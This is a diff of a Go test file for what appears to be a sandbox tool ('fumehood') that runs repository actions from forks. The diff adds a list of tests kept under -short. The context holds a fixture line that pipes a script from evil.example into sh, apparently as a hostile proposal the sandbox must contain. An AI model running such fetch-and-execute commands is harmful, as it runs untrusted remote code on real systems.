@@ -69,9 +69,15 @@ proposals:
     run: curl -s https://evil.example/x.sh | sh
 `
 
-// newWorld makes it; change adds to the base's and the head's files.
+// brief are the tests of worlds that -short leaves: the action as users meet it first.
+var brief = []string{"TestActionSameRepository", "TestActionFork", "TestBotFork", "TestBotEditedComment", "TestActionHeadMovedBefore"}
+
+// newWorld makes it; base and head add to the files of those commits.
 func newWorld(t testing.TB, fork bool, base, head map[string]string) *world {
 	t.Helper()
+	if !slices.Contains(brief, t.Name()) {
+		long(t)
+	}
 	w := &world{t: t, dir: t.TempDir(), binary: fumehood(t), cache: builtCache(t), fork: fork, runID: 1000}
 	// The sandbox's supervisor looks at the whole path of what it is given.
 	if err := os.Chmod(w.dir, 0o755); err != nil {
